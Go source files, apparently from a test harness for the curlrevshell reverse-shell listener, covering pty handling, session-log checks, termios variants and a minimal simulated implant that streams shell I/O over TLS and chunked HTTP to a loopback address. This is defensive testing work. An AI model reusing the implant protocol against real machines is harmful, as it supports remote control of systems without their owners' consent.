		p.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	}
	if err := p.cmd.Start(); err != nil {
		p.closeFiles()
		return nil, fmt.Errorf("starting %s: %w", bin, err)
	}
	simkit.Heartbeat.Add(1)
	go func() {
		p.waitErr = p.cmd.Wait()
		close(p.exited)
	}()
	return p, nil
}

func (p *proc) readMaster() {
	defer close(p.rdDone)
	b := make([]byte, 1<<15)
	for {
		n, err := p.master.Read(b)
		if n > 0 {
			p.mu.Lock()
			p.buf = append(p.buf, b[:n]...)
			p.mu.Unlock()
			select {
			case p.notify <- struct{}{}:
			default:
			}
		}
		if err != nil {
			return
		}
	}
}

func (p *proc) closeFiles() {
	if p.master != nil {
		p.master.Close()
		if p.rdDone != nil {
			<-p.rdDone
		}
		p.master = nil
	}
	if p.slaveFd >= 0 {
		unix.Close(p.slaveFd)
		p.slaveFd = -1
	}
	p.closeStdin()
}

// closeStdin closes the harness's end of the child's standard input pipe (if
// any): the child reads end-of-file.
func (p *proc) closeStdin() {
	if p.stdinW != nil {
		p.stdinW.Close()
		p.stdinW = nil
	}
}

// output is what the pty has shown so far.
func (p *proc) output() []byte {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]byte(nil), p.buf...)
}

// send types b where the program reads the operator's keys: on the terminal,
// or into the pipe that is its standard input.
func (p *proc) send(b []byte) error {
	if p.stdinW != nil {
		_, err := p.stdinW.Write(b)
		if errors.Is(err, syscall.EPIPE) {
			// nobody reads any more (the child is gone or has closed it):
			// keys typed into the void, as they would be on a terminal
			return nil
		}
		return err
	}
	_, err := p.master.Write(b)
	return err
}

type waitResult int

const (
	wExited waitResult = iota
	wFound
	wTimeout
)

// waitFor waits until the child is gone, pred (if any) holds on the pty
// output, or limit has passed.
func (p *proc) waitFor(pred func([]byte) bool, limit time.Duration) waitResult {
	deadline := time.NewTimer(limit)
	defer deadline.Stop()
	beat := time.NewTicker(2 * time.Second)
	defer beat.Stop()
	for {
		select {
		case <-p.exited:
			return wExited
		default:
		}
		if pred != nil && pred(p.output()) {
			return wFound
		}
		select {
		case <-p.exited:
			return wExited
		case <-p.notify:
		case <-beat.C:
			simkit.Heartbeat.Add(1)
		case <-deadline.C:
			return wTimeout
		}
	}
}

// kill ends a child that will not go by itself.
func (p *proc) kill() {
	_ = p.cmd.Process.Kill()
	// a grandchild could hold the pipe open; none is expected
	select {
	case <-p.exited:
	case <-time.After(10 * time.Second):
	}
}

// status describes how the (reaped) child ended: its exit status, or -1 and
// the signal that killed it.
func (p *proc) status() (code int, sig syscall.Signal) {
	var ee *exec.ExitError
	if p.waitErr == nil {
		return 0, 0
	}
	if errors.As(p.waitErr, &ee) {
		if ws, ok := ee.Sys().(syscall.WaitStatus); ok {
			if ws.Signaled() {
				return -1, ws.Signal()
			}
			return ws.ExitStatus(), 0
		}
		return ee.ExitCode(), 0
	}
	return -2, 0
}

// finish collects, after the child is gone, all it wrote and the terminal
// mode it left behind, and releases the pty.
func (p *proc) finish() (out []byte, after *unix.Termios, err error) {
	defer p.closeFiles()
	if !p.tty {
		return p.pipeBuf.Bytes(), nil, nil
	}
	after, err = unix.IoctlGetTermios(p.slaveFd, unix.TCGETS)
	if err != nil {
		return nil, nil, fmt.Errorf("TCGETS after exit: %w", err)
	}
	if _, err := unix.Write(p.slaveFd, []byte(endMark)); err != nil {
		return nil, nil, fmt.Errorf("writing end mark to the pty: %w", err)
	}
	mark := []byte(endMark)
	deadline := time.NewTimer(capHarness)
	defer deadline.Stop()
	for {
		o := p.output()
		if i := bytes.Index(o, mark); i >= 0 {
			return o[:i], after, nil
		}
		select {
		case <-p.notify:
		case <-deadline.C:
			return nil, nil, errors.New("end mark never came out of the pty master")
		}
	}
}
