package procsim

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"unicode/utf8"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// The LOG family (property C11): main's own wiring of -log / CURLREVSHELL_LOG
// (open for append with 0600, JSON handler) judged on the file a real
// session leaves behind.  Enumerated only for C11.
const (
	PropertyLog = "C11"

	ExitLogFlag        = "log_flag"        // -log $S/log.json
	ExitLogEnv         = "log_env"         // CURLREVSHELL_LOG=$S/log.json
	ExitLogTwice       = "log_twice"       // two runs in a row on one file
	ExitLogPreexisting = "log_preexisting" // the file exists (0644, with content)
)

var logFamily = []string{ExitLogFlag, ExitLogEnv, ExitLogTwice, ExitLogPreexisting}

// logTermios are the termios variants the family is run in.
var logTermios = []int{0, 4}

func isLogExit(how string) bool {
	for _, h := range logFamily {
		if h == how {
			return true
		}
	}
	return false
}

func logLabel(how string) string {
	switch how {
	case ExitLogEnv:
		return "session log named by CURLREVSHELL_LOG"
	case ExitLogTwice:
		return "session log of two runs in a row"
	case ExitLogPreexisting:
		return "session log added to an existing file"
	}
	return "session log named by -log"
}

func enumerateLog() []caseSpec {
	var out []caseSpec
	for _, how := range logFamily {
		for _, v := range logTermios {
			out = append(out, caseSpec{
				cfg:  Config{TTY: true, Termios: v, Cache: CacheFresh},
				acts: []Action{{K: KExit, ID: how}},
			})
		}
	}
	return out
}

// What the operator types (Tab is a key of the line editor, so quotes, a
// backslash and non-ASCII letters instead) and what the shell answers
// (newlines, quotes, a NUL, a byte that is not UTF-8, and one chunk shorter
// than four bytes).
var (
	logTyped = []string{
		`procsim-typed-2 say "hello" \ and 'bye' {x}`,
		`procsim-typed-3 grüße ✓ done`,
	}
	logChunks = []struct{ data, mark string }{
		{"procsim-out-2 \"quoted\" \\ back\nsecond line of it\n", "second line of it"},
		{"~Z\n", "~Z"},
		{"procsim-out-4 nul\x00 bad\xff end\n", "procsim-out-4 nul"},
	}
	preexisting = "{\"note\":\"written before the program ran\"}\n"
)

// logSession is what one run of the scenario did, as the implant saw it.
type logSession struct {
	received []byte // body of /i/x as the implant got it
	sent     []byte // what the implant put into the body of /o/x
	trace    []string
	output   string // terminal output, for messages
	argv     string
}

// dechunk decodes as much of a chunked HTTP response body as has arrived.
func dechunk(resp []byte) []byte {
	i := bytes.Index(resp, []byte("\r\n\r\n"))
	if i < 0 {
		return nil
	}
	body := resp[i+4:]
	var out []byte
	for {
		j := bytes.Index(body, []byte("\r\n"))
		if j < 0 {
			return out
		}
		n, err := strconv.ParseInt(strings.TrimSpace(string(body[:j])), 16, 32)
		if err != nil || n == 0 {
			return out
		}
		body = body[j+2:]
		if int64(len(body)) < n {
			return append(out, body...)
		}
		out = append(out, body[:n]...)
		body = body[n:]
		if len(body) >= 2 {
			body = body[2:]
		}
	}
}

// runLogSession plays the scenario on one process.
func runLogSession(ev *environment, cs *caseSpec, dir, logPath string, viaEnv bool, seq int) (*logSession, string) {
	s := &logSession{}
	note := func(x string) { s.trace = append(s.trace, x) }
	argv := []string{"-listen-address", "127.0.0.1:0",
		"-tls-certificate-cache", filepath.Join(dir, fmt.Sprintf("cache%d", seq), "cert.txtar")}
	env := childEnv(dir)
	if viaEnv {
		env = append(env, "CURLREVSHELL_LOG="+logPath)
	} else {
		argv = append(argv, "-log", logPath)
	}
	s.argv = "curlrevshell " + strings.ReplaceAll(strings.Join(argv, " "), dir, "$S")
	if viaEnv {
		s.argv = "CURLREVSHELL_LOG=$S/log.json " + s.argv
	}
	note("argv: " + s.argv)
	p, err := startProc(true, ev.bin, argv, env, cs.cfg.Termios)
	if err != nil {
		return s, err.Error()
	}
	fail := func(format string, a ...any) (*logSession, string) {
		p.kill()
		out, _, _ := p.finish()
		return s, fmt.Sprintf(format, a...) + "\n" + s.argv + "\noutput:\n" +
			clipTail(strings.ReplaceAll(string(out), dir, "$S"), 3000)
	}
	if p.waitFor(hasStarted, capHarness) != wFound {
		return fail("the program did not finish its start-up")
	}
	m := loopbackAddr.Find(p.output())
	if m == nil {
		return fail("no listen address in the start-up output")
	}
	r := &oneShellRun{p: p, addr: string(m), poke: make(chan struct{}, 1), obs: &famObs{}}
	defer r.closeAll()

	in, out, herr, exited := r.attachUni("x")
	if herr != "" || exited {
		return fail("attaching the shell: %s (exited=%v)", herr, exited)
	}
	s.sent = append(s.sent, outToken+"\n"...)
	note("shell attached over /i/x and /o/x")
	got := func() []byte { g, _ := in.snapshot(); return dechunk(g) }
	typeLine := func(l string) string {
		if err := p.send([]byte(l + "\r")); err != nil {
			return "typing a line: " + err.Error()
		}
		if ok, _ := r.until(capHarness, func() bool { return bytes.Contains(got(), []byte(l+"\n")) }); !ok {
			return "a typed line never arrived at the shell"
		}
		return ""
	}
	sendChunk := func(i int) string {
		c := logChunks[i]
		if err := out.write(chunk(c.data)); err != nil {
			return "sending output: " + err.Error()
		}
		s.sent = append(s.sent, c.data...)
		// on the terminal before the next one goes out, so that the
		// server reads them one by one
		if ok, _ := r.until(capHarness, func() bool { return r.ptyHas(c.mark) }); !ok {
			return "the shell's output never reached the terminal"
		}
		return ""
	}
	if e := typeLine(logTyped[0]); e != "" {
		return fail("%s", e)
	}
	if e := sendChunk(0); e != "" {
		return fail("%s", e)
	}
	// a second input side while the shell is attached: turned away
	y, err := r.dial()
	if err == nil {
		err = y.write(reqIn(r.addr, "y"))
	}
	if err != nil {
		return fail("the extra input side: %v", err)
	}
	if ok, _ := r.until(capHarness, func() bool { return bodyDone(y.snapshot()) }); !ok {
		return fail("the extra input side was neither answered nor dropped")
	}
	if bytes.Contains(dechunk(func() []byte { g, _ := y.snapshot(); return g }()), []byte("procsim")) {
		return fail("the extra input side was served instead of turned away")
	}
	y.close()
	note("a second /i/y while the shell is attached: answered without a body")
	if e := sendChunk(1); e != "" {
		return fail("%s", e)
	}
	if e := typeLine(logTyped[1]); e != "" {
		return fail("%s", e)
	}
	if e := sendChunk(2); e != "" {
		return fail("%s", e)
	}
	note(fmt.Sprintf("typed %d more lines, sent %d more chunks, each seen to arrive", len(logTyped), len(logChunks)))
	// the shell ends
	if err := out.write(endBody); err != nil {
		return fail("ending the shell's output: %v", err)
	}
	if ok, _ := r.until(capHarness, func() bool {
		g, eof := out.snapshot()
		return (headerDone(g) || eof) && bodyDone(in.snapshot())
	}); !ok {
		return fail("the shell's requests did not finish after its output ended")
	}
	s.received = got()
	in.close()
	out.close()
	note("shell ended (both requests answered)")
	if err := p.send([]byte{0x04}); err != nil {
		return fail("typing Ctrl+D: %v", err)
	}
	if p.waitFor(nil, capSelf) != wExited {
		return fail("the program did not leave after Ctrl+D")
	}
	outb, _, err := p.finish()
	if err != nil {
		return s, err.Error()
	}
	code, sig := p.status()
	note(fmt.Sprintf("Ctrl+D: exit status %d signal %d", code, int(sig)))
	s.output = clipTail(strings.ReplaceAll(string(outb), dir, "$S"), 1200)
	return s, ""
}

// jsonText is how the JSON log shows bytes: what is not UTF-8 becomes U+FFFD,
// byte by byte.
func jsonText(b []byte) string {
	var sb strings.Builder
	for len(b) > 0 {
		r, n := utf8.DecodeRune(b)
		if r == utf8.RuneError && n == 1 {
			sb.WriteRune(utf8.RuneError)
		} else {
			sb.Write(b[:n])
		}
		b = b[n:]
	}
	return sb.String()
}

// refusals are the exported reasons for turning a stream away.
var refusals = map[string]bool{
	iobroker.LMAlreadyConnected: true, iobroker.LMDisconnecting: true,
	iobroker.LMIncorrectKey: true, iobroker.LMKeyMissing: true,
}

// judgeLog checks region (what one run added to the log file) against what
// the implant saw.  It returns (invariant, what, detail) triples.
func judgeLog(region []byte, s *logSession) (bad [][3]string) {
	add := func(inv, what, format string, a ...any) {
		bad = append(bad, [3]string{inv, what, fmt.Sprintf(format, a...)})
	}
	// every line exactly one JSON object, nothing else
	var recs []map[string]any
	lines := bytes.Split(region, []byte("\n"))
	if len(region) == 0 || len(lines[len(lines)-1]) != 0 {
		add("log-json-lines", "log is not a sequence of one-line JSON objects", "the added part is empty or does not end in a newline (%d bytes)", len(region))
	}
	lines = lines[:len(lines)-1]
	broken := 0
	for i, l := range lines {
		var rec map[string]any
		dec := json.NewDecoder(bytes.NewReader(l))
		err := dec.Decode(&rec)
		if err == nil {
			var extra any
			if e2 := dec.Decode(&extra); e2 != io.EOF {
				err = fmt.Errorf("more than one value on the line")
			}
		}
		if err != nil || rec == nil {
			if broken == 0 {
				add("log-json-lines", "log is not a sequence of one-line JSON objects", "line %d of the added part is not one JSON object (%v): %q", i+1, err, clipTail(string(l), 200))
			}
			broken++
			continue
		}
		recs = append(recs, rec)
	}
	str := func(rec map[string]any, k string) string { v, _ := rec[k].(string); return v }
	dirs := []string{string(iobroker.LVInput), string(iobroker.LVOutput)}
	ioData := map[string][]string{}
	for _, d := range dirs {
		var news, discs, ios []int
		for i, rec := range recs {
			if str(rec, iobroker.LKDirection) != d {
				continue
			}
			switch str(rec, slog.MessageKey) {
			case iobroker.LMNewConnection:
				news = append(news, i)
			case iobroker.LMDisconnected:
				discs = append(discs, i)
			case iobroker.LMShellIO:
				ios = append(ios, i)
				ioData[d] = append(ioData[d], str(rec, iobroker.LKData))
			}
		}
		ok := len(news) == 1 && len(discs) == 1
		if ok {
			for _, i := range ios {
				ok = ok && news[0] < i && i < discs[0]
			}
		}
		if !ok {
			add("log-connect-disconnect", "accepted stream without exactly one connect and one disconnect record around its I/O records",
				"direction %s: %d connect records, %d disconnect records, %d I/O records (positions %v / %v / %v)", d, len(news), len(discs), len(ios), news, discs, ios)
		}
	}
	// the transcript
	var want []string
	for _, l := range bytes.SplitAfter(s.received, []byte("\n")) {
		if len(l) > 0 {
			want = append(want, string(l))
		}
	}
	if strings.Join(ioData[dirs[0]], "\x00") != strings.Join(want, "\x00") {
		add("log-io-transcript", "logged input lines differ from the lines delivered to the shell",
			"the shell received %q, the log has %q", want, ioData[dirs[0]])
	} else if got, want := strings.Join(ioData[dirs[1]], ""), jsonText(s.sent); got != want {
		add("log-io-transcript", "logged output differs from the output received from the shell",
			"the shell sent %q, the log has (joined) %q", want, got)
	}
	// the stream that was turned away
	n, lvl := 0, ""
	for _, rec := range recs {
		if refusals[str(rec, slog.MessageKey)] {
			n++
			lvl = str(rec, slog.LevelKey)
		}
	}
	if n != 1 || lvl != slog.LevelError.String() {
		add("log-refusal-record", "refused stream without exactly one error record naming the reason",
			"%d records carry one of the exported refusal reasons (level of the last: %q)", n, lvl)
	}
	return bad
}

// executeLog runs a case of the LOG family.
func executeLog(ev *environment, cs *caseSpec, o *simkit.Outcome) {
	how := cs.exitHow()
	label := logLabel(how)
	o.NonTrivial = true
	o.Trace = append(o.Trace, "expect: "+label)
	syscall.Umask(0o022)
	dir := filepath.Join(ev.scratch, fmt.Sprintf("c%d_%d", os.Getpid(), caseSeq.Add(1)))
	defer os.RemoveAll(dir)
	for _, d := range []string{"home", "xdg"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			o.HarnessErr = err.Error()
			return
		}
	}
	logPath := filepath.Join(dir, "log.json")
	if how == ExitLogPreexisting {
		if err := os.WriteFile(logPath, []byte(preexisting), 0o644); err != nil {
			o.HarnessErr = err.Error()
			return
		}
		_ = os.Chmod(logPath, 0o644)
		o.Trace = append(o.Trace, "log file exists already: mode 0644, one line")
	}
	runs := 1
	if how == ExitLogTwice {
		runs = 2
	}
	for i := 0; i < runs; i++ {
		before, berr := os.ReadFile(logPath)
		existed := berr == nil
		sess, herr := runLogSession(ev, cs, dir, logPath, how == ExitLogEnv, i)
		o.Steps++
		o.Trace = append(o.Trace, sess.trace...)
		if herr != "" {
			o.HarnessErr = herr
			return
		}
		found := func(inv, what, detail string) {
			o.Violations = append(o.Violations, simkit.Found{
				Property: PropertyLog, Invariant: inv, Signature: label + ": " + what,
				Message: fmt.Sprintf("%s (run %d of %d)\n  %s\n  (termios variant %d, binary built with %s)\n  terminal output:\n%s",
					detail, i+1, runs, sess.argv, cs.cfg.Termios, ev.goVersion, sess.output),
			})
		}
		after, err := os.ReadFile(logPath)
		if err != nil {
			found("log-json-lines", "no log file was written", "reading the log: "+err.Error())
			o.Trace = append(o.Trace, "log: MISSING")
			return
		}
		region := after
		if existed {
			if bytes.HasPrefix(after, before) {
				region = after[len(before):]
				o.Trace = append(o.Trace, "log: earlier content still in front, byte for byte")
				o.Probes["log_appended_to_existing"]++
			} else {
				found("log-appends", "earlier content of the log file not preserved (not appended)",
					fmt.Sprintf("the file held %d bytes before the run; afterwards it does not start with them (now %d bytes)", len(before), len(after)))
				o.Trace = append(o.Trace, "log: earlier content GONE")
			}
		} else {
			fi, err := os.Stat(logPath)
			if err != nil {
				o.HarnessErr = err.Error()
				return
			}
			if m := fi.Mode().Perm(); m != 0o600 {
				found("log-file-mode", "new log file not created with mode 0600", fmt.Sprintf("mode %04o under umask 022", m))
				o.Trace = append(o.Trace, fmt.Sprintf("log: created with mode %04o", m))
			} else {
				o.Trace = append(o.Trace, "log: created with mode 0600")
				o.Probes["log_created_0600"]++
			}
		}
		bad := judgeLog(region, sess)
		for _, b := range bad {
			found(b[0], b[1], b[2])
		}
		if len(bad) == 0 {
			o.Trace = append(o.Trace, "log: JSON lines; transcript, connect/disconnect and refusal records as the shell saw them")
			o.Probes["log_session_reconstructed"]++
		} else {
			o.Trace = append(o.Trace, fmt.Sprintf("log: %d complaints", len(bad)))
		}
		if len(o.Violations) > 0 {
			return
		}
	}
}
