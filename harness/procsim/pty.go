package procsim

import (
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// openPTY opens a fresh pseudo-terminal pair.  The master comes back as a
// pollable *os.File (so Close unblocks a reader); the slave as a plain file
// descriptor the harness keeps for itself, so that the pty (and its termios)
// outlives the child.
func openPTY() (master *os.File, slaveFd int, slavePath string, err error) {
	mfd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return nil, -1, "", fmt.Errorf("open /dev/ptmx: %w", err)
	}
	if err = unix.IoctlSetPointerInt(mfd, unix.TIOCSPTLCK, 0); err != nil {
		unix.Close(mfd)
		return nil, -1, "", fmt.Errorf("unlockpt: %w", err)
	}
	n, err := unix.IoctlGetInt(mfd, unix.TIOCGPTN)
	if err != nil {
		unix.Close(mfd)
		return nil, -1, "", fmt.Errorf("ptsname: %w", err)
	}
	slavePath = fmt.Sprintf("/dev/pts/%d", n)
	sfd, err := unix.Open(slavePath, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		unix.Close(mfd)
		return nil, -1, "", fmt.Errorf("open %s: %w", slavePath, err)
	}
	_ = unix.IoctlSetWinsize(mfd, unix.TIOCSWINSZ, &unix.Winsize{Row: 50, Col: 200})
	return os.NewFile(uintptr(mfd), "ptmx"), sfd, slavePath, nil
}

// numTermiosVariants is the number of known non-default terminal modes a pty
// can be put in before the child starts.
const numTermiosVariants = 6

// applyTermiosVariant changes t (the fresh pty's default mode) into variant v.
// None of them equals the raw mode the program itself sets.
func applyTermiosVariant(t *unix.Termios, v int) {
	switch v {
	case 0: // the default: cooked, echo, signals, output processing
	case 1: // no echo
		t.Lflag &^= unix.ECHO
	case 2: // non-canonical with a read timeout
		t.Lflag &^= unix.ICANON
		t.Cc[unix.VMIN] = 0
		t.Cc[unix.VTIME] = 5
	case 3: // no output processing
		t.Oflag &^= unix.OPOST
	case 4: // nearly raw, but not quite what the program sets
		t.Lflag &^= unix.ISIG | unix.ECHO | unix.ICANON
		t.Cc[unix.VMIN] = 3
		t.Cc[unix.VTIME] = 2
	case 5: // echo without control echo, no flow control, no CR translation
		t.Lflag &^= unix.ECHOCTL
		t.Iflag &^= unix.IXON | unix.ICRNL
		t.Lflag |= unix.ECHO
	}
}

// termiosDiff names the fields in which a and b differ ("" if equal).
func termiosDiff(a, b *unix.Termios) string {
	var d []string
	if a.Iflag != b.Iflag {
		d = append(d, fmt.Sprintf("iflag %#o->%#o", a.Iflag, b.Iflag))
	}
	if a.Oflag != b.Oflag {
		d = append(d, fmt.Sprintf("oflag %#o->%#o", a.Oflag, b.Oflag))
	}
	if a.Cflag != b.Cflag {
		d = append(d, fmt.Sprintf("cflag %#o->%#o", a.Cflag, b.Cflag))
	}
	if a.Lflag != b.Lflag {
		d = append(d, fmt.Sprintf("lflag %#o->%#o", a.Lflag, b.Lflag))
	}
	if a.Line != b.Line {
		d = append(d, fmt.Sprintf("line %d->%d", a.Line, b.Line))
	}
	for i := range a.Cc {
		if a.Cc[i] != b.Cc[i] {
			d = append(d, fmt.Sprintf("cc[%d] %d->%d", i, a.Cc[i], b.Cc[i]))
		}
	}
	if a.Ispeed != b.Ispeed {
		d = append(d, fmt.Sprintf("ispeed %d->%d", a.Ispeed, b.Ispeed))
	}
	if a.Ospeed != b.Ospeed {
		d = append(d, fmt.Sprintf("ospeed %d->%d", a.Ospeed, b.Ospeed))
	}
	return strings.Join(d, ", ")
}
