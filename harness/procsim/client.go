package procsim

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"regexp"
	"sync"
	"time"
)

// Tokens the harness itself pushes through an attached shell, so that
// "attached" is observed without reading any of the program's wording.
const (
	outToken = "procsim-shell-output-token"
	inToken  = "procsim-shell-input-token"
)

// loopbackAddr finds the address the program listens on: it was told
// 127.0.0.1:0, so the only 127.0.0.1:<port> it shows is its own.
var loopbackAddr = regexp.MustCompile(`127\.0\.0\.1:([0-9]{1,5})`)

// shellClient is a minimal implant: one TLS connection streaming the shell's
// input (GET /i/x) and one carrying its output as a chunked body (PUT /o/x).
type shellClient struct {
	in, out *tls.Conn

	closeOnce sync.Once

	mu    sync.Mutex
	got   []byte
	poke  chan struct{}
	rdErr error
}

func dialTLS(addr string) (*tls.Conn, error) {
	return tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", addr,
		&tls.Config{InsecureSkipVerify: true})
}

// attach connects both sides concurrently.
func attach(addr string) (*shellClient, error) {
	c := &shellClient{poke: make(chan struct{}, 1)}
	var wg sync.WaitGroup
	var errIn, errOut error
	wg.Add(2)
	go func() {
		defer wg.Done()
		if c.in, errIn = dialTLS(addr); errIn != nil {
			return
		}
		_, errIn = fmt.Fprintf(c.in, "GET /i/x HTTP/1.1\r\nHost: %s\r\nUser-Agent: procsim\r\n\r\n", addr)
	}()
	go func() {
		defer wg.Done()
		if c.out, errOut = dialTLS(addr); errOut != nil {
			return
		}
		line := outToken + "\n"
		_, errOut = fmt.Fprintf(c.out, "PUT /o/x HTTP/1.1\r\nHost: %s\r\nUser-Agent: procsim\r\n"+
			"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n", addr, len(line), line)
	}()
	wg.Wait()
	if err := errors.Join(errIn, errOut); err != nil {
		c.close()
		return nil, err
	}
	go func() {
		b := make([]byte, 4096)
		for {
			n, err := c.in.Read(b)
			c.mu.Lock()
			c.got = append(c.got, b[:n]...)
			if err != nil {
				c.rdErr = err
			}
			c.mu.Unlock()
			select {
			case c.poke <- struct{}{}:
			default:
			}
			if err != nil {
				return
			}
		}
	}()
	return c, nil
}

// awaitInput waits until the input side has delivered tok.
func (c *shellClient) awaitInput(tok string, limit time.Duration) error {
	deadline := time.NewTimer(limit)
	defer deadline.Stop()
	for {
		c.mu.Lock()
		ok, err := bytes.Contains(c.got, []byte(tok)), c.rdErr
		c.mu.Unlock()
		if ok {
			return nil
		}
		if err != nil {
			return fmt.Errorf("input stream ended before the typed line arrived: %w", err)
		}
		select {
		case <-c.poke:
		case <-deadline.C:
			return errors.New("typed line never arrived on the input stream")
		}
	}
}

// close ends the shell: the output body is terminated, both connections go.
func (c *shellClient) close() {
	c.closeOnce.Do(func() {
		if c.out != nil {
			_, _ = c.out.Write([]byte("0\r\n\r\n"))
			c.out.Close()
		}
		if c.in != nil {
			c.in.Close()
		}
	})
}
