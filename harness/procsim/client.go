package procsim

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"net"
	"regexp"
	"sync"
	"time"
)

// Tokens the harness itself pushes through an attached shell, so that
// "attached" is observed without reading any of the program's wording.
const (
	outToken   = "procsim-shell-output-token"
	inToken    = "procsim-shell-input-token"
	halfToken  = "procsim-half-attached-input-token"
	wrongToken = "procsim-wrong-id-output-token"
	lateToken  = "procsim-straggler-output-token"
)

// loopbackAddr finds the address the program listens on: it was told
// 127.0.0.1:0, so the only 127.0.0.1:<port> it shows is its own.
var loopbackAddr = regexp.MustCompile(`127\.0\.0\.1:([0-9]{1,5})`)

// stream is one TLS connection to the program (handshake completed) whose
// incoming bytes are collected in the background.
type stream struct {
	conn *tls.Conn
	poke chan struct{} // shared: poked on every event of any stream

	closeOnce sync.Once
	mu        sync.Mutex
	got       []byte
	eof       bool
}

func dialStream(addr string, poke chan struct{}) (*stream, error) {
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", addr,
		&tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return nil, err
	}
	s := &stream{conn: c, poke: poke}
	go func() {
		b := make([]byte, 4096)
		for {
			n, err := c.Read(b)
			s.mu.Lock()
			s.got = append(s.got, b[:n]...)
			if err != nil {
				s.eof = true
			}
			s.mu.Unlock()
			select {
			case poke <- struct{}{}:
			default:
			}
			if err != nil {
				return
			}
		}
	}()
	return s, nil
}

func (s *stream) write(b string) error {
	_, err := s.conn.Write([]byte(b))
	return err
}

func (s *stream) snapshot() (got []byte, eof bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]byte(nil), s.got...), s.eof
}

func (s *stream) has(tok string) bool {
	g, _ := s.snapshot()
	return bytes.Contains(g, []byte(tok))
}

func (s *stream) close() {
	if s != nil {
		s.closeOnce.Do(func() { s.conn.Close() })
	}
}

// The requests of a (minimal) implant.
const endBody = "0\r\n\r\n"

func chunk(s string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(s), s) }

func reqIn(addr, id string) string {
	return fmt.Sprintf("GET /i/%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: procsim\r\n\r\n", id, addr)
}

func reqOut(addr, id, tok string) string {
	return fmt.Sprintf("PUT /o/%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: procsim\r\n"+
		"Transfer-Encoding: chunked\r\n\r\n", id, addr) + chunk(tok+"\n")
}

func reqInOut(addr, tok string) string {
	return fmt.Sprintf("POST /io HTTP/1.1\r\nHost: %s\r\nUser-Agent: procsim\r\n"+
		"Transfer-Encoding: chunked\r\n\r\n", addr) + chunk(tok+"\n")
}

// What HTTP itself (not the program's wording) tells about a handler.

// headerDone: the response header has arrived.
func headerDone(got []byte) bool { return bytes.Contains(got, []byte("\r\n\r\n")) }

// bodyDone: the handler has returned: a complete response without a streamed
// body, or the end of a streamed (chunked) one.
func bodyDone(got []byte, eof bool) bool {
	if eof {
		return true
	}
	i := bytes.Index(got, []byte("\r\n\r\n"))
	if i < 0 {
		return false
	}
	if !bytes.Contains(bytes.ToLower(got[:i]), []byte("chunked")) {
		return true
	}
	return bytes.HasSuffix(got, []byte("\r\n"+endBody)) || bytes.Equal(got[i+4:], []byte(endBody))
}

// refusedConnect dials addr until the connection is refused (the listening
// socket is gone); connections that still get through are dropped at once.
func refusedConnect(addr string, limit time.Duration) bool {
	deadline := time.Now().Add(limit)
	for {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err == nil {
			c.Close()
		} else if isRefused(err) {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
}
