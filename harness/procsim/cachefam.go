package procsim

import (
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// The CACHE family (property C08): the certificate cache as the real binary
// makes it when its directories do not exist yet, above all at the place the
// DEFAULT of -tls-certificate-cache points to (the per-user cache directory,
// worked out by main before anything is listened on), which no library-level
// engine ever sees.  Each case is two processes in a row, started the same
// way: the first one creates the cache, the second one has to find it.
// Enumerated only for C08.
const (
	PropertyCache = "C08"

	ExitCacheRestart = "cache_restart" // start, look, Ctrl+D; start again, look, Ctrl+D
)

// Where the cache file is (Config.CacheLoc).
const (
	LocHome        = "home"         // flag absent, XDG_CACHE_HOME absent: below $HOME/.cache
	LocXDG         = "xdg"          // flag absent: below $XDG_CACHE_HOME
	LocXDGRelative = "xdg_relative" // flag absent, XDG_CACHE_HOME is not absolute (newer toolchains' os.UserCacheDir refuses it, older ones take it as it is)
	LocExplicit    = "explicit"     // -tls-certificate-cache $S/e/d1/d2/d3/cert.txtar (control)
)

// Invariant slugs: the ones the library-level C08 engine uses.
const (
	invOwnerOnly  = "owner-only"
	invStable     = "stable-identity"
	invRewritten  = "never-rewritten"
	invRegenerate = "regenerates-missing"
)

// pemKeyMark is what every PEM-armoured private key carries (RFC 7468 labels
// "PRIVATE KEY", "EC PRIVATE KEY", "RSA PRIVATE KEY"): the file holding the
// private key is recognised by it, not by its name or place.
const pemKeyMark = "PRIVATE KEY-----"

func isCacheExit(how string) bool { return how == ExitCacheRestart }

func cacheLabel(loc string) string {
	switch loc {
	case LocHome:
		return "certificate cache at the default place below $HOME"
	case LocXDG:
		return "certificate cache at the default place below $XDG_CACHE_HOME"
	case LocXDGRelative:
		return "certificate cache at the default place with a relative $XDG_CACHE_HOME"
	}
	return "certificate cache at an explicit path with missing directories"
}

// cacheCases is the family: place, how many directory levels on the way to
// the file do not exist yet, and the umask the processes inherit.
var cacheCases = []struct {
	loc     string
	missing int
	umask   string
}{
	{LocHome, 2, "022"}, // a fresh account: $HOME is there, .cache is not
	{LocHome, 1, "022"},
	{LocHome, 3, "000"}, // not even $HOME
	{LocHome, 0, "022"},
	{LocHome, 2, "077"},
	{LocHome, 4, "022"},
